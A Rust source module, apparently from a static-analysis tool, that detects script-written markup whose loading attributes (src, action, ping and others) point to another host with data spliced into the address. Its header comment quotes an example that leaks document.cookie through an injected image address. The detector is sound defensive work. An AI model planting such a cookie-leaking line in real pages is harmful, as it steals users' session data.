//! Addresses in markup that code writes into a page: `` body.innerHTML += `<img src="https://…?${document.cookie}">` ``.
//!
//! Only what is put into an address can carry something: one that is written out whole is a picture or a script.

use molehunt_source::ByteSpan;

use super::url_text;
use crate::{
    eval::Evaluator,
    value::{Text, Value},
};

/// Attributes whose address is asked for as soon as the markup is in the page.
const LOADING: [&str; 10] =
    ["src", "srcset", "action", "formaction", "data", "poster", "ping", "background", "xlink:href", "href"];
/// One that only some elements load, and these.
const LINKING: (&str, [&str; 3]) = ("href", ["link", "image", "use"]);

/// The addresses with something put into them that a browser asks for, for one reading of the markup.
pub(super) fn addresses(evaluator: &mut Evaluator<'_>, markup: &Value) -> Vec<Value> {
    let Value::Concat(pieces) = markup else { return Vec::new() };
    let mut found = Vec::new();
    let mut before = String::new();
    for (index, piece) in pieces.iter().enumerate() {
        let Value::Text(text) = piece else { continue };
        before.push_str(&text.text);
        if let Some((start, end)) = last_address(&before) {
            let own = before.len() - start;
            // It begins in this piece, or in one before it that was not closed, and is found there.
            if own <= text.text.len() {
                found.push(address(evaluator, text, text.text.len() - own, &pieces[index + 1..], end));
            }
        }
    }
    found
}

/// Where an address begins that is open where the markup ends, and what closes it.
fn last_address(markup: &str) -> Option<(usize, &'static [char])> {
    let tag = markup.rfind('<')?;
    let sign = markup[tag..].rfind('=').map(|at| tag + at)?;
    // Addresses have `=` in them as well.
    let signs = markup[tag..=sign].match_indices('=').map(|(at, _)| tag + at);
    signs.into_iter().find_map(|sign| {
        let name = markup[tag..sign].trim_end().rsplit([' ', '\n', '\t', '"', '\'', '/']).next()?.to_ascii_lowercase();
        let element = markup[tag + 1..].split([' ', '\n', '\t', '/']).next()?.to_ascii_lowercase();
        if !LOADING.contains(&&*name) || name == LINKING.0 && !LINKING.1.contains(&&*element) {
            return None;
        }
        let value = markup[sign + 1..].trim_start();
        let start = markup.len() - value.len();
        let (start, end): (usize, &[char]) = match value.chars().next()? {
            '"' => (start + 1, &['"']),
            '\'' => (start + 1, &['\'']),
            _ => (start, &[' ', '\n', '\t', '>']),
        };
        let address = &markup[start..];
        let is_open = !address.contains(end);
        let is_elsewhere = ["http://", "https://", "//"].iter().any(|scheme| address.starts_with(scheme));
        (is_open && is_elsewhere).then_some((start, end))
    })
}

/// An address that begins in a piece of markup, with what is put into it, up to what closes it.
fn address(evaluator: &mut Evaluator<'_>, first: &Text, start: usize, rest: &[Value], end: &[char]) -> Value {
    let part = |text: &Text, from: usize, to: usize| match text.text.get(from..to) {
        Some(part) => Value::text(part, text.place_at(from)),
        None => Value::text("", ByteSpan::default()),
    };
    let mut parts = vec![part(first, start, first.text.len())];
    if url_text(&parts[0]).starts_with("//") {
        parts.insert(0, Value::text("https:", ByteSpan::default()));
    }
    for piece in rest {
        match piece {
            Value::Text(text) => match text.text.find(end) {
                Some(at) => {
                    parts.push(part(text, 0, at));
                    break;
                }
                None => parts.push(piece.clone()),
            },
            other => parts.push(other.clone()),
        }
    }
    evaluator.concat(parts)
}

#[cfg(test)]
mod tests {
    use super::last_address;

    #[test]
    fn an_address_is_open_until_its_quote() {
        let open = |markup: &'static str| last_address(markup).map(|(start, _)| &markup[start..]);
        assert_eq!(open("<p>a</p><img alt=\"\" src=\"https://a.test/?c="), Some("https://a.test/?c="));
        assert_eq!(open("<img src='//a.test/?c=1&d="), Some("//a.test/?c=1&d="));
        assert_eq!(open("<iframe src=https://a.test/"), Some("https://a.test/"));
        assert_eq!(open("<link rel=\"prefetch\" href=\"https://a.test/"), Some("https://a.test/"));
        assert_eq!(open("<a href=\"https://a.test/"), None);
        assert_eq!(open("<img src=\"https://a.test/\" alt=\""), None);
        assert_eq!(open("<img src=\"/own/"), None);
        assert_eq!(open("no markup"), None);
    }
}
